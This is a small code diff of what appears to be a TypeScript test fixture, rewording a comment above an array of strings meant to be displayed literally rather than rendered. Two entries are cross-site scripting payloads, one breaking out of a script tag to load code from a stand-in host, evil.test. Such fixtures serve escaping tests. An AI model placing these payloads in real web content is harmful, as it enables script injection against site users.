@@ -1,4 +1,4 @@
-/** What is not Markdown: shown wherever it stands as it was typed, as one text. */
+/** Not Markdown: shown literally everywhere, as one text. */
 export const nastyWords: readonly string[] = [
   '<script>alert(1)</script>',
   '</script><script src=//evil.test/x.js></script>',
